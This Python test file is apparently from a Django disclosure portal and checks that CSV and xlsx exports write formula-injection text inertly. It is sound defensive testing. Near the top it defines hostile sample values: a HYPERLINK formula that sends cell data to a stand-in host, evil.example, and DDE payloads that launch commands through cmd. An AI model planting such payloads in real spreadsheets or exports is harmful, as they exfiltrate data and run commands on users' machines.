"""Spreadsheet exports never hand a formula to Excel (security finding
"Hardening" 6, CSV/formula injection): text that begins with = + - @ (or a tab
or carriage return) is written inertly by every export — the report commands'
CSV, the coverage CSV and xlsx, the admin reports' and listings' CSV and xlsx —
while numbers stay numbers. The catalogue export and its round trip through
the importer are in test_import_catalogue.py."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from gk_columns.tables import csv_text, inert_csv_value, set_xlsx_value, xlsx_row
from tests.factories import entry_values, filed_catalogue, make_catalogue, make_domain, make_org
from tests.test_disclosure_review import build_org, item

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
DDE = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, AT, MINUS, "\t=1+1", "\r=1+1"]


def csv_rows(text):
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def streamed(response):
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def xlsx_cells(data):
    """Every cell of every sheet, read as stored (formulas as formulas, not cached values)."""
    workbook = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    return [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row]


def assert_inert_xlsx(cells, texts):
    """Each of `texts` is in a text cell, exactly; no cell is a formula."""
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    found = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in texts:
        assert text in found, text
        assert found[text].data_type == "s"


# -- the helpers ----------------------------------------------------------------------------------


def test_csv_values_made_inert_and_numbers_left_alone():
    for text in HOSTILE:
        assert inert_csv_value(text) == "'" + text
    for value in ["测试县教育局", "", "a=b", "《条例》第-1条", "'quoted", None, -5, -1.5, Decimal("-2.5"), 0]:
        assert inert_csv_value(value) == value
    rows = csv_rows(csv_text(["名称", "数"], [[HYPERLINK, -5], [MINUS, Decimal("-1.5")]]))
    assert rows[1:] == [["'" + HYPERLINK, "-5"], ["'" + MINUS, "-1.5"]]


def test_xlsx_text_stays_text_and_numbers_stay_numbers():
    workbook = Workbook()
    ws = workbook.active
    set_xlsx_value(ws.cell(1, 1), HYPERLINK)
    set_xlsx_value(ws.cell(1, 2), "#N/A")  # openpyxl would store this as an error value
    set_xlsx_value(ws.cell(1, 3), -5)
    ws.append(xlsx_row(ws, [DDE, -1.5, None, "普通文本"]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    read = load_workbook(buffer).active
    assert [(c.value, c.data_type) for c in read[1][:3]] == [(HYPERLINK, "s"), ("#N/A", "s"), (-5, "n")]
    assert [(c.value, c.data_type) for c in read[2]] == [(DDE, "s"), (-1.5, "n"), (None, "n"), ("普通文本", "s")]
    # Excel's "text follows" mark, so that editing the cell later keeps it text too.
    assert read["A1"].quotePrefix and read["A2"].quotePrefix and not read["D2"].quotePrefix


# -- the report commands and the admin reports ------------------------------------------------------


@pytest.fixture
def due_items(portal):
    county = build_org("测试县教育局", "jyj")
    return [item(county.column, decided=datetime.date(2024, 6, 1), title=title) for title in (HYPERLINK, AT)]


def test_disclosure_review_csv_and_exports_write_titles_inertly(due_items, admin_client):
    out = io.StringIO()
    call_command("disclosure_review", "--today", "2026-11-21", "--format", "csv", stdout=out)
    titles = sorted(row[0] for row in csv_rows(out.getvalue())[1:])
    assert titles == sorted("'" + t for t in (HYPERLINK, AT))

    url = reverse("gk_disclosure_review:report")
    rows = csv_rows(streamed(admin_client.get(url, {"export": "csv", "today": "2026-11-21"})).decode("utf-8"))
    assert sorted(row[0] for row in rows[1:]) == titles
    assert {row[-2] for row in rows[1:]} == {"538"}  # 逾期天数: a number, written as one

    cells = xlsx_cells(streamed(admin_client.get(url, {"export": "xlsx", "today": "2026-11-21"})))
    assert_inert_xlsx(cells, [HYPERLINK, AT])


# -- coverage -----------------------------------------------------------------------------------


@pytest.fixture
def hostile_coverage(portal):
    domain = make_domain("义务教育", code="yiwu-jiaoyu", order=1)
    org = make_org(HYPERLINK, code="evil")
    filed_catalogue(org, [entry_values(domain, DDE, MINUS), entry_values(domain, "招生入学", "招生政策")]).publish()
    return org


def test_coverage_csv_and_xlsx_write_names_inertly(hostile_coverage, tmp_path, admin_client):
    out = io.StringIO()
    call_command("coverage", "--format", "csv", "--today", "2026-11-21", stdout=out)
    rows = csv_rows(out.getvalue())
    assert rows[1][:5] == ["'" + HYPERLINK, "evil", "县级部门", "1", "2"]

    target = tmp_path / "coverage.xlsx"
    call_command("coverage", "--format", "xlsx", "--out", str(target), "--today", "2026-11-21", stderr=io.StringIO())
    cells = xlsx_cells(str(target))
    assert_inert_xlsx(cells, [HYPERLINK])
    workbook = load_workbook(target)
    assert workbook["汇总"]["E2"].value == 2 and workbook["汇总"]["E2"].data_type == "n"  # 应设栏目 stays a number

    url = reverse("gk_coverage:coverage_report")
    rows = csv_rows(streamed(admin_client.get(url, {"export": "csv"})).decode("utf-8"))
    assert rows[1][:5] == ["'" + HYPERLINK, "evil", "县级部门", "1", "2"]
    assert_inert_xlsx(xlsx_cells(streamed(admin_client.get(url, {"export": "xlsx"}))), [HYPERLINK])


# -- the catalogue listings (ModelViewSet list_export) -------------------------------------------------


def test_catalogue_listing_exports_write_text_inertly(portal, admin_client):
    domain = make_domain("义务教育", code="yiwu-jiaoyu", order=1)
    org = make_org("测试县教育局", code="jyj")
    make_catalogue(org, [entry_values(domain, HYPERLINK, DDE, content=AT)])
    url = reverse("gk_catalogue_entry:index")

    rows = csv_rows(streamed(admin_client.get(url, {"export": "csv"})).decode("utf-8"))
    headings = rows[0]
    [row] = rows[1:]
    values = dict(zip(headings, row, strict=True))
    assert values["一级事项"] == "'" + HYPERLINK
    assert values["二级事项"] == "'" + DDE
    assert values["公开内容（要素）"] == "'" + AT

    assert_inert_xlsx(xlsx_cells(streamed(admin_client.get(url, {"export": "xlsx"}))), [HYPERLINK, DDE, AT])
